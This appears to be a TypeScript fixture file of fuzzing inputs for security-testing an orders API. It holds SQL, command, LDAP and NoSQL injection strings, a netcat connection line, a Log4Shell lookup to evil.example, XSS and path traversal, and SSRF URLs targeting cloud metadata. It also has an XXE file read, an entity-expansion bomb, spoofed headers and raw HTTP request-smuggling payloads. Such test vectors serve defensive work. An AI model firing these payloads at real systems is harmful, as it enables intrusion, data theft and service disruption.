/** Name and value of a header, as sent. */
export type Header = readonly [string, string];

export const INJECTIONS: readonly string[] = [
  "' OR 1=1--",
  "x'; DROP TABLE orders; --",
  '1 UNION SELECT password FROM users',
  '; cat /etc/passwd',
  '$(curl http://169.254.169.254/)',
  '`id`',
  '| nc 10.0.0.1 4444',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u0000',
  '\ud800',
  '\u202e\u2066',
  '%00%0d%0aSet-Cookie: a=b',
  '\r\nX-Injected: 1',
  '(&(uid=*)(password=*))',
  "{'$gt': ''}",
  '() { :; }; echo vulnerable',
];

export const URLS: readonly string[] = [
  'http://169.254.169.254/latest/meta-data/',
  'http://[::ffff:a9fe:a9fe]/',
  'http://2130706433/',
  'http://0x7f.1/',
  'http://localhost:6379/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:25/',
  'https://user:pass@10.0.0.1/',
];

export const NUMBERS: readonly unknown[] = [
  -1,
  0,
  1.5,
  1e308,
  -0,
  2 ** 53,
  2 ** 53 + 2,
  1e21,
  '9'.repeat(400),
  '0x10',
  ' 1',
];

export const STRANGE: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[]],
  '',
  ' ',
  'a'.repeat(5_000),
  { $ref: '#/x' },
  { toString: 1 },
];

export const MEMBERS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'isAdmin',
  'tenantId',
  '$where',
];

export const DEPTHS = [65, 500, 2_000, 20_000];

export const TYPES: readonly (readonly string[])[] = [
  [],
  ['text/plain'],
  ['application/xml'],
  ['APPLICATION/JSON; charset=utf-16'],
  ['application/json; charset=utf-8; x="'],
  ['application/json, text/plain'],
  ['application/json', 'text/xml'],
  ['application/jsonx'],
  ['application/json;/../xml'],
  ['multipart/form-data; boundary=x'],
  ['application/x-www-form-urlencoded'],
  ['application/vnd.api+json'],
  ['*/*'],
  [''],
  ['/'],
  ['a'.repeat(4_000)],
];

export const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';

export const BOMB = `<!DOCTYPE a [<!ENTITY a "aaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "&a${n || ''};&a${n || ''};">`).join('')}]><a>&a8;</a>`;

export const SIZES = [2_049, 4_097, 16_385, 65_536, 65_537, 200_000, 1_500_000];

export const PATHS: readonly string[] = [
  '/orders/%2e%2e/admin/orders',
  '/orders/../admin/orders/ord-aaaaaaaa1/refund',
  '//orders',
  '/orders//lines',
  '/orders/',
  '/orders/%2f',
  '/orders/ord-aaaaaaaa1%00',
  '/orders/ord-aaaaaaaa1%c0%af',
  '/orders/%ed%a0%80',
  '/orders/%',
  '/orders/%zz',
  '/orders;x=1',
  '/Orders',
  '/orders/ord-aaaaaaaa1/..;/lines',
  `/orders/${'a'.repeat(900)}`,
  `/orders/${'a'.repeat(7_000)}`,
  '/orders/ord-aaaaaaaa1?orderId=ord-bbbbbbbb2',
  '/%6frders',
  '/live/orders',
  '/.git/config',
  '/orders/*',
  '/orders/{orderId}',
];

export const NAMES = [
  'limit',
  'status',
  'Limit',
  'limit[]',
  'limit[$gt]',
  '__proto__',
  '__proto__[a]',
  'constructor',
  'q',
  'limit%00',
  '',
];

export const RAW_QUERIES = [
  'limit=1&limit=2',
  'limit',
  '&&&',
  '=',
  'limit=%',
  'limit=%zz',
  'limit=%00',
  'limit=1;status=open',
  `x=${'a'.repeat(3_000)}`,
  'limit=1%262',
  '?limit=1',
];

export const HEADERS: readonly Header[] = [
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/admin'],
  ['X-Rewrite-URL', '/admin'],
  ['X-Forwarded-For', '127.0.0.1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example'],
  ['X-Amzn-Waf-Trusted', '1'],
  ['Accept', 'text/html,*/*;q=evil'],
  ['Accept-Encoding', `gzip, ${'a,'.repeat(500)}`],
  ['Range', `bytes=${'0-,'.repeat(500)}0-`],
  ['If-Match', '"'.repeat(1_000)],
  ['Cookie', '__proto__=1; a='],
  ['Expect', '200-ok'],
  ['User-Agent', '() { :; }; /bin/bash -c id'],
  ['Referer', '<script>alert(1)</script>'],
  ['Transaction-Token', 'e30.e30.e30'],
  ['Authorization', 'Bearer x.y.z'],
];

const JSON_HEAD = 'Host: HOST\r\nAuthorization: Bearer TOKEN\r\nUser-Agent: raw\r\nContent-Type: application/json\r\n';

export const WIRE: readonly string[] = [
  `GET /orders\u0000 HTTP/1.1\r\n${JSON_HEAD}\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: -1\r\n\r\n{}`,
  `GET /orders HTTP/1.1\r\nHost: HOST\r\nHost: evil.example\r\n\r\n`,
  'GET /orders HTTP/1.1\r\n\r\n',
  'GET /orders HTTP/9.9\r\nHost: HOST\r\n\r\n',
  'GET\r\n\r\n',
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A : b\r\n\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: ${'a'.repeat(20_000)}\r\n\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}${'X-A: b\r\n'.repeat(400)}\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: b\u0001c\r\n\r\n`,
  `GET http://evil.example/orders HTTP/1.1\r\n${JSON_HEAD}\r\n`,
  'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: HOST\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];
